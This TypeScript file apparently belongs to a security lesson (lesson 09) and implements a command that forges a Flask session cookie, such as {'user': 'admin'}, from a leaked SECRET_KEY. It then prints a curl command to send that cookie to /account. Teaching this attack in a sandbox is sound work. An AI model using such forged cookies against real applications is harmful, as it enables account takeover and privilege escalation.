/**
 * `flask-session sign --key KEY '{"user": "admin"}'`: the attacker's signer for lesson 09, who holds
 * a leaked SECRET_KEY. Prints the cookie value Flask's own session interface would set
 * (grading/flask-session.ts), ready for `curl -H 'Cookie: session=…'`.
 */
import { forgeFlaskSession } from '../../grading/flask-session';
import type { Program } from './programs';

const USAGE = `usage: flask-session sign --key SECRET_KEY '{"user": "admin"}'
  signs a session as Flask 3.1 does (itsdangerous, salt "cookie-session", HMAC-SHA1)
`;

export const flaskSessionProgram: Program = {
  name: 'flask-session',
  help: `flask-session sign --key KEY '{"user": "admin"}'   a Flask session cookie signed with KEY`,
  run: async (args) => {
    const [verb, ...rest] = args;
    const keyAt = rest.findIndex((arg) => arg === '--key');
    const key = keyAt >= 0 ? rest[keyAt + 1] : rest.find((arg) => arg.startsWith('--key='))?.slice('--key='.length);
    const json = rest.filter(
      (_, index) => index !== keyAt && index !== keyAt + 1 && !rest[index]!.startsWith('--key='),
    );
    if (verb !== 'sign' || !key || json.length !== 1) return USAGE;
    let session: unknown;
    try {
      session = JSON.parse(json[0]!);
    } catch (error) {
      return `flask-session: not JSON: ${(error as Error).message}\n`;
    }
    if (
      typeof session !== 'object' ||
      session === null ||
      Array.isArray(session) ||
      !Object.values(session).every((value) => typeof value === 'string')
    ) {
      return 'flask-session: give an object of strings, e.g. {"user": "admin"}\n';
    }
    const cookie = await forgeFlaskSession(session as Record<string, string>, key);
    return `${cookie}\n(send it: curl -H 'Cookie: session=${cookie}' /account)\n`;
  },
};
